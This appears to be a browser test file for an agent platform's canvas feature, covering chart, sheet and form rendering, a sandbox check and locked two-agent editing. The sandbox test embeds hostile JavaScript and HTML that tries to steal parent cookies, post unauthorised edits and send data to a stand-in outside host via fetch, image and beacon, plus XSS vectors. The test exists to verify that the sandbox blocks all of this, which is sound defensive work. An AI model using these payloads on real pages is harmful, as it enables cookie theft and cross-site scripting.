"""Canvases in Chromium: an agent (the local test LLM server) presents a chart, a sheet with formulas (the
page shows the computed values) and a form in a chat; the person submits an invalid then a valid value
and the agent continues with it (the form then names the person); a malicious custom
component cannot reach the parent page, its cookies, the API, the network or the top window; two agents
edit one canvas in locked mode and the page follows live, each edit attributed."""

from __future__ import annotations

import asyncio
import json
from typing import Any

from atom.canvas import components
from atom.canvas import service as canvas_service
from atom.config import Settings
from atom.db.session import Database
from atom.governance.maturity import MaturityLevel
from atom.security.models import Role
from tests.canvas.conftest import acting_as, call
from tests.chat.conftest import WatchedOpenAIServer, agent_named, chat_app, llm_server
from tests.support.agents import make_agent
from tests.support.llm_servers import ScriptedToolCall, iter_texts, text_reply, tool_reply
from tests.web.browser.conftest import PageAs, check_a11y, csp_violations, shot

__all__ = ["chat_app", "llm_server"]

CHART = {
    "title": "Calls this week",
    "chart_type": "bar",
    "labels": ["Mon", "Tue", "Wed", "Thu"],
    "series": [{"name": "inbound", "values": [12, 18, 9, 14]}, {"name": "outbound", "values": [5, 7, 11, 6]}],
}
SHEET = {
    "title": "Calls by day",
    "kind": "sheet",
    "content": {
        "columns": ["Day", "Inbound", "Outbound", "Total"],
        "rows": [
            ["Mon", 12, 5, "=B1+C1"],
            ["Tue", 18, 7, "=B2+C2"],
            ["Both", "=SUM(B1:B2)", "=SUM(C1:C2)", "=IF(D1+D2=B3+C3, D1+D2, -1)"],
        ],
    },
}
FORM = {
    "title": "Your details",
    "schema": {
        "type": "object",
        "properties": {
            "age": {"type": "integer", "minimum": 18, "title": "Age"},
            "team": {"type": "string", "enum": ["sales", "support"], "title": "Team"},
        },
        "required": ["age", "team"],
    },
    "submit_label": "Send to the agent",
}


async def test_an_agent_presents_a_chart_and_a_form_and_continues_with_the_answer(
    chat_app: Any, page_as: PageAs, llm_server: WatchedOpenAIServer, db: Database, settings: Settings, live_url: str
) -> None:
    await agent_named(db, settings, MaturityLevel.SUPERVISED, "analyst")
    llm_server.queue(
        tool_reply(ScriptedToolCall("present_chart", [json.dumps(CHART)], id="call_chart")),
        tool_reply(ScriptedToolCall("present_canvas", [json.dumps(SHEET)], id="call_sheet")),
        tool_reply(ScriptedToolCall("present_form", [json.dumps(FORM)], id="call_form")),
        text_reply("Thanks: age 30, team support."),
    )
    view = await page_as(Role.OPERATOR)
    page = view.page
    await page.goto("/chat")
    await page.get_by_label("Agent").select_option(label="analyst (supervised)")
    await page.get_by_role("button", name="Start chatting").click()
    await page.wait_for_url(f"{live_url}/chat/*")
    await page.get_by_label("Message").fill("show me the week and ask my details")
    await page.get_by_role("button", name="Send").click()

    chart = page.locator(".canvas-chart svg")
    await chart.wait_for(timeout=30000)
    assert await chart.locator("g.bars.s0 rect").count() == 4 and await chart.locator("g.bars.s1 rect").count() == 4
    assert await page.locator(".canvas-chart .legend li").all_text_contents() == ["inbound", "outbound"]
    sheet = page.locator("table.sheet")
    await sheet.wait_for(timeout=30000)
    assert await sheet.locator("thead th").all_text_contents() == ["", "Day", "Inbound", "Outbound", "Total"]
    cells = [await row.locator("td").all_text_contents() for row in await sheet.locator("tbody tr").all()]
    assert cells == [["Mon", "12", "5", "17"], ["Tue", "18", "7", "25"], ["Both", "30", "12", "42"]]
    assert await sheet.locator("td.formula").count() == 5
    assert (
        await sheet.locator("tbody tr").nth(2).locator("td").nth(3).get_attribute("title")
        == SHEET["content"]["rows"][2][3]
    )
    await shot(page, "canvas-chat-sheet")
    age = page.get_by_label("Age (required)")
    await age.wait_for(timeout=30000)
    assert await page.locator('.msg-assistant[data-state="streaming"]').count() == 1  # the agent waits

    await age.fill("12")
    await page.get_by_label("Team (required)").select_option("support")
    await page.get_by_role("button", name="Send to the agent").click()
    error = page.locator('[data-field="age"] .field-error')
    await error.wait_for(timeout=15000)
    assert "minimum of 18" in (await error.text_content() or "")
    assert await age.get_attribute("aria-invalid") == "true"
    await shot(page, "canvas-form-invalid")
    assert await page.locator('.msg-assistant[data-state="streaming"]').count() == 1  # still waiting

    await age.fill("30")
    await page.get_by_role("button", name="Send to the agent").click()
    await page.locator('.msg-assistant[data-state="completed"]').wait_for(timeout=30000)
    assert "age 30, team support" in (await page.locator(".msg-assistant .text").last.text_content() or "")
    submitted = page.locator(".canvas-form .submitted")
    await submitted.wait_for(timeout=15000)
    assert f"Submitted by {view.user.username} (person)." in (await submitted.text_content() or "")
    # The model received the person's answer as present_form's result.
    results = [m for m in llm_server.requests[3].body["messages"] if m["role"] == "tool"]
    form_result = json.loads(results[-1]["content"])
    assert form_result["status"] == "submitted" and form_result["values"] == {"age": 30, "team": "support"}
    assert any("show me the week" in t for t in iter_texts(llm_server.requests))
    await check_a11y(page)
    await shot(page, "canvas-chat-chart-form")
    assert csp_violations(view.console) == []


ESCAPES_JS = r"""
(function () {
  var report = {};
  function attempt(name, fn) {
    try { var value = fn(); report[name] = "ok:" + String(value); }
    catch (e) { report[name] = "blocked:" + e.name; }
  }
  attempt("parent_cookie", function () { return parent.document.cookie; });
  attempt("top_cookie", function () { return top.document.cookie; });
  attempt("own_cookie", function () { return document.cookie; });
  attempt("parent_dom", function () { return parent.document.body.innerHTML.length; });
  attempt("parent_global", function () { parent.__pwned = "yes"; return parent.__pwned; });
  attempt("local_storage", function () { return window.localStorage.length; });
  attempt("top_navigate", function () { top.location.href = "/signout"; return "navigated"; });
  attempt("open_window", function () { return String(window.open("/api/canvases")); });
  attempt("websocket", function () { return new WebSocket("ws://" + location.host + "/ws/chat").readyState; });
  var pending = [
    fetch("/api/canvases").then(function (r) { return "ok:" + r.status; },
      function (e) { return "blocked:" + e.name; }),
    fetch("/api/canvases/TARGET/edits", { method: "POST", credentials: "include",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ op: "append", content: { text: "pwned" } }) })
      .then(function (r) { return "ok:" + r.status; }, function (e) { return "blocked:" + e.name; }),
    fetch("OUTSIDE/steal").then(function () { return "ok"; }, function (e) { return "blocked:" + e.name; }),
  ];
  var img = new Image();
  img.src = "OUTSIDE/img";
  attempt("beacon", function () { return navigator.sendBeacon("OUTSIDE/beacon", "x"); });
  Promise.all(pending).then(function (results) {
    report.fetch_api = results[0]; report.fetch_edit = results[1]; report.fetch_network = results[2];
    var out = document.getElementById("report");
    out.textContent = JSON.stringify(report);
    out.setAttribute("data-done", "yes");
  });
})();
"""
ESCAPES_HTML = (
    '<p id="report">running</p>'
    '<img src="x" onerror="parent.__pwned=\'img\'">'
    '<a href="javascript:parent.__pwned=\'link\'" id="jslink">link</a>'
    '<iframe src="/api/canvases"></iframe>'
    '<form action="/api/canvases" method="post"><button>go</button></form>'
    '<meta http-equiv="refresh" content="0;url=/signout">'
    '<base href="OUTSIDE/">'
    '<script>parent.__pwned="inline"</script>'
    '<div onclick="parent.__pwned=\'click\'" style="background:url(/api/canvases)">x</div>'
)


class Outside:
    """A listener on 127.0.0.1 standing for "the network": it counts every connection made to it."""

    def __init__(self) -> None:
        self.connections = 0
        self.server: asyncio.Server | None = None

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        writer.close()

    async def __aenter__(self) -> str:
        self.server = await asyncio.start_server(self._accept, "127.0.0.1", 0)
        return f"http://127.0.0.1:{self.server.sockets[0].getsockname()[1]}"

    async def __aexit__(self, *exc: object) -> None:
        assert self.server is not None
        self.server.close()
        await self.server.wait_closed()


async def test_a_malicious_custom_component_reaches_nothing(
    page_as: PageAs, db: Database, settings: Settings, live_url: str, web_user: Any
) -> None:
    outside = Outside()
    async with outside as outside_url:
        await _component_escapes(page_as, db, settings, live_url, web_user, outside_url)
    assert outside.connections == 0  # no fetch, image, beacon or base URL reached the network


async def _component_escapes(
    page_as: PageAs, db: Database, settings: Settings, live_url: str, web_user: Any, outside_url: str
) -> None:
    author, approver = await web_user(Role.OPERATOR), await web_user(Role.APPROVER)
    agent = await make_agent(db, settings, MaturityLevel.AUTONOMOUS, name="builder")
    with acting_as(settings, db, agent.id):
        target = (await call("present_markdown", title="Target", text="untouched"))["canvas_id"]
    async with db.session_scope() as s:
        await components.create(
            session=s, name="escape-kit", description="", html=ESCAPES_HTML.replace("OUTSIDE", outside_url),
            css="p { color: #123; }", js=ESCAPES_JS.replace("TARGET", target).replace("OUTSIDE", outside_url),
            user_id=author.id,
        )  # fmt: skip
        stored = (
            await components.versions(
                session=s, component_id=(await components.get_component(session=s, ref="escape-kit")).id
            )
        )[0]
        await components.approve(
            session=s, ref="escape-kit", version=1, approver_id=approver.id, approve=True, reason=""
        )
    for gone in ("onerror", "javascript:", "<iframe", "<form", "<meta", "<base", "<script", "onclick", "style="):
        assert gone not in stored.html, gone
    with acting_as(settings, db, agent.id):
        shown = await call("canvas_execute_javascript", component="escape-kit", props={"note": "</script><b>x</b>"})

    view = await page_as(Role.OPERATOR)
    page = view.page
    await page.evaluate("() => { document.cookie = 'probe=parent-secret; path=/'; }")
    await page.goto(f"/canvases/{shown['canvas_id']}")
    frame_element = page.locator("iframe.component-frame")
    await frame_element.wait_for(timeout=15000)
    assert await frame_element.get_attribute("sandbox") == "allow-scripts"
    frame = await (await frame_element.element_handle()).content_frame()
    assert frame is not None
    await frame.wait_for_selector('#report[data-done="yes"]', timeout=15000)
    report = json.loads(await frame.locator("#report").text_content() or "{}")
    for name in ("parent_cookie", "top_cookie", "own_cookie", "parent_dom", "parent_global", "local_storage"):
        assert report[name].startswith("blocked:"), (name, report[name])
    for name in ("fetch_api", "fetch_edit", "fetch_network"):
        assert report[name].startswith("blocked:"), (name, report[name])
    assert "parent-secret" not in json.dumps(report)
    assert report["open_window"] in ("ok:null", "blocked:SecurityError") or report["open_window"].startswith("blocked:")
    await page.wait_for_timeout(300)  # a navigation of the top window would have happened by now
    assert page.url == f"{live_url}/canvases/{shown['canvas_id']}"
    assert await page.evaluate("() => window.__pwned === undefined")
    assert "probe=parent-secret" in await page.evaluate("() => document.cookie")  # it was there to steal
    assert len(page.context.pages) == 1  # no window opened
    async with db.session_scope() as s:
        untouched = await canvas_service.get(session=s, canvas_id=target)
        assert untouched.version == 1 and untouched.content["text"] == "untouched"
    # What the parent page refused is not a violation of its own CSP; the frame's refusals are expected.
    await shot(page, "canvas-component-sandbox")


async def test_two_agents_edit_one_canvas_in_locked_mode_live(
    page_as: PageAs, db: Database, settings: Settings, live_url: str
) -> None:
    first = await make_agent(db, settings, MaturityLevel.INTERN, name="drafter")
    second = await make_agent(db, settings, MaturityLevel.INTERN, name="editor")
    with acting_as(settings, db, first.id):
        made = await call(
            "present_canvas", kind="sheet", title="Budget", mode="locked",
            content={"columns": ["Item", "Cost"], "rows": [["rent", 1200], ["total", "=SUM(B1:B1)"]]},
            collaborators=[{"agent": "editor"}],
        )  # fmt: skip
    canvas_id = made["canvas_id"]
    view = await page_as(Role.VIEWER, width=375, height=800)
    page = view.page
    await page.goto(f"/canvases/{canvas_id}")
    card = page.locator(f'[data-canvas="{canvas_id}"]')
    await card.wait_for(timeout=15000)
    assert await card.locator("tbody tr").nth(1).locator("td").nth(1).text_content() == "1200"

    with acting_as(settings, db, first.id):
        await call("update_canvas", canvas_id=canvas_id, op="lock")
        await call(
            "update_canvas", canvas_id=canvas_id, op="replace", expected_version=1,
            content={"columns": ["Item", "Cost"], "rows": [["rent", 1200], ["power", 300], ["total", "=SUM(B1:B2)"]]},
        )  # fmt: skip
    await page.locator(f'[data-canvas="{canvas_id}"][data-version="2"]').wait_for(timeout=15000)
    assert "locked by drafter" in (await page.locator(".canvas-meta").text_content() or "")
    with acting_as(settings, db, second.id):
        try:
            await call("update_canvas", canvas_id=canvas_id, op="merge", expected_version=2, content={"rows": []})
            raise AssertionError("an edit without the lock went through")
        except Exception as refused:  # the Conflict is what we expect
            assert getattr(refused, "code", "") == "CANVAS_LOCKED"
    with acting_as(settings, db, first.id):
        await call("update_canvas", canvas_id=canvas_id, op="unlock")
    with acting_as(settings, db, second.id):
        await call("update_canvas", canvas_id=canvas_id, op="lock")
        await call(
            "update_canvas", canvas_id=canvas_id, op="merge", expected_version=2,
            content={"rows": [["rent", 1200], ["power", 300], ["net", 50], ["total", "=SUM(B1:B3)"]]},
        )  # fmt: skip
    await page.locator(f'[data-canvas="{canvas_id}"][data-version="3"]').wait_for(timeout=15000)
    cells = await page.locator(f'[data-canvas="{canvas_id}"] tbody tr td:nth-child(3)').all_text_contents()
    assert cells == ["1200", "300", "50", "1550"]
    assert "locked by editor" in (await page.locator(".canvas-meta").text_content() or "")
    await page.locator(".canvas-history summary").click()
    edits = await page.locator(".canvas-history .edits li").all_text_contents()
    assert "update by editor (v3)" in edits and "update by drafter (v2)" in edits
    assert any("refused" in e and "editor" in e for e in edits)
    assert await page.evaluate("() => document.documentElement.scrollWidth") <= 375
    await check_a11y(page)
    await shot(page, "canvas-locked-two-agents-375")
    assert csp_violations(view.console) == []
